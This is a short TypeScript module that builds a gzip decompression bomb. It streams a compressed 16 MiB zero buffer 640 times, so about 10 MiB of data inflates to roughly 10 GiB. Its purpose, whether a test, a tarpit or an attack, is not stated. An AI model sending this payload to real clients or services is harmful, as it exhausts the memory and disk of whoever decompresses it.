import { Readable } from 'node:stream';
import { promisify } from 'node:util';
import { gzip } from 'node:zlib';

/** Zeros that compress to a thousandth. */
const PIECE_BYTES = 16 * 1024 ** 2;
const PIECES = 640;

let piece: Promise<Buffer> | undefined;

/** 10 MiB that inflate to 10 GiB: a gzip file may be many put together, so one small piece is enough. */
export function gzipBomb(): Readable {
  piece ??= promisify(gzip)(Buffer.alloc(PIECE_BYTES), { level: 9 });
  return Readable.from(pieces(piece));
}

async function* pieces(piece: Promise<Buffer>): AsyncGenerator<Buffer> {
  for (let sent = 0; sent < PIECES; sent += 1) yield piece;
}
